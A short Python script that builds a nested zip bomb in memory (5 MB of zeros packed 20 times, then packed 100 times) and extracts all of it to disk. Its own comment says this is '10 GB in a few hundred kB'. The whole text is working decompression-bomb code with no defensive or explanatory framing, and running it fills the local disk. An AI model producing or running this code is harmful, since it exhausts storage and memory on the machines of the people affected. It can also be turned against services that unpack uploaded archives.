import io, zipfile
def pack(content, times):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(times):
            archive.writestr(f"{number}.bin", content)
    return packed.getvalue()
with zipfile.ZipFile(io.BytesIO(pack(pack(bytes(5_000_000), 20), 100))) as outer:  # 10 GB in a few hundred kB
    for name in outer.namelist():
        zipfile.ZipFile(io.BytesIO(outer.read(name))).extractall(name + ".d")
